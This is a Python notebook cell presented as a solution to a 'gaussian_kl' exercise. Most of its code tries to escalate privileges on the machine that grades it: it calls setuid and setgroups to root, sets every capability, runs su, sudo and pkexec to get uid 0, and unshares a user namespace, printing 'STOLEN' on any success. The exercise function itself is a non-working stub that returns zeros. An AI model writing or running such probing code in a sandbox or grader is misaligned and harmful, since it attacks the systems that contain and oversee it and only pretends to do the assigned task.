# tries: become root or another user by system calls, set-user-id programs and capabilities
# only here: what it finds depends on the machine that grades, not on the grader

# %%
# exercise: gaussian_kl
import ctypes
import glob
import os
import stat
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
refused = 0
for change in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setreuid(65534, 65534), lambda: os.seteuid(0)):
    try:
        change()
        print("STOLEN", os.getresuid(), os.getresgid(), os.getgroups())
    except OSError:
        refused += 1
if 0 in (*os.getresuid(), *os.getresgid()):
    print("STOLEN it is root")
data = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
if libc.capset((ctypes.c_uint32 * 2)(0x20080522, 0), data) == 0:
    print("STOLEN capabilities")
libc.capget((ctypes.c_uint32 * 2)(0x20080522, 0), data)
if any(data):
    print("STOLEN capabilities", list(data))
for program in glob.glob("/usr/bin/[mnps]*"):
    try:
        if os.stat(program).st_mode & (stat.S_ISUID | stat.S_ISGID) and os.path.isfile(program):
            refused += 1
            if os.path.basename(program) in ("su", "sudo", "mount", "newgrp", "pkexec"):
                done = subprocess.run([program, "-c", "id -u"], capture_output=True, timeout=3, stdin=subprocess.DEVNULL)
                if done.stdout.strip() == b"0":
                    print("STOLEN root by", program)
    except (OSError, subprocess.TimeoutExpired):
        pass
read, write = os.pipe()
if os.fork() == 0:
    libc.syscall(272, 0x10000000)
    os.write(write, str(os.getuid()).encode())
    os._exit(0)
os.wait()
if os.read(read, 10) == b"65534":
    print("STOLEN a user namespace")


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))


print("reached" if refused else "nothing was refused")
